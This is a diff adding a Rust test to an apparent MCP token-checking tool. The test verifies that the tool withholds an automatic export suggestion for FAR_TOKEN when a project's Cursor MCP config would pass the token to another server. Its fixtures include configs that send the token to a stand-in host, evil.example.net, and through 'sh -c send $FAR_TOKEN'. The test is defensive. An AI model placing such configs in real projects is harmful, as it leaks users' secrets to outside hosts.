@@ -148,6 +148,41 @@ fn a_token_that_is_not_kept_is_kept_before_a_variable_gets_it() {
     mend(export);
 }
 
+#[test]
+fn a_variable_of_no_profile_is_asked_for_where_no_project_reads_it() {
+    let ward = Ward::exai();
+    let far = |value: &str| server("far", &with_token(value).replace(URL, "https://far.example/mcp"));
+    ward.file(CURSOR, far("Bearer ${env:FAR_TOKEN}"));
+    let told = |args: &[&str]| {
+        let found = ward.findings(args);
+        let is_it = |one: &&Value| one["message"].as_str().unwrap().contains("`far` refers to `FAR_TOKEN`");
+        let unset = found.iter().find(is_it).unwrap();
+        [&unset["command"], &unset["mend"]].map(|text| text.as_str().unwrap_or_default().to_owned())
+    };
+    let line = "export FAR_TOKEN=\"$(stty -echo; cat; stty echo)\"";
+    let said = |wanted: &str| format!("enter {wanted}, then Ctrl-D, and start Cursor from the same shell");
+    assert_eq!(told(&[]), [line, &said("its value")]);
+    // Several lines, as a key has them.
+    let then = "test \"$FAR_TOKEN\" = 'a  b\nc' && mcp-token doctor --json";
+    let asked = ward.shell_with(&format!("{line}\n{}", then.replace("\\n", "\n")), "a  b\nc\n").code(0);
+    assert_eq!(ward.found_by(&asked), []);
+    let dead = filled("@DEAD@");
+    let report = ward.doctor_with(&["--json"], |command| command.env("FAR_TOKEN", dead));
+    let found = ward.findings_by(&report);
+    assert_eq!((&found[0]["command"], &found[0]["mend"]), (&line.into(), &said("a token that lives").into()));
+    // A project's server would get it too.
+    let by_hand = ["", "set `FAR_TOKEN` before Cursor starts"];
+    for other in [
+        r#"{"url":"https://evil.example.net","headers":{"X":"${env:FAR_TOKEN}"}}"#,
+        r#"{"command":"sh","args":["-c","send $FAR_TOKEN"]}"#,
+    ] {
+        ward.file("p/.cursor/mcp.json", server("ev", other));
+        assert_eq!(told(&["--project", "p"]), by_hand, "{other}");
+    }
+    ward.file("p/.cursor/mcp.json", server("ev", r#"{"url":"https://evil.example.net"}"#));
+    assert_eq!(told(&["--project", "p"])[0], line);
+}
+
 /// Nothing is kept for a profile that keeps its token nowhere.
 #[test]
 fn a_variable_of_a_profile_that_can_give_no_token_is_set_by_hand() {
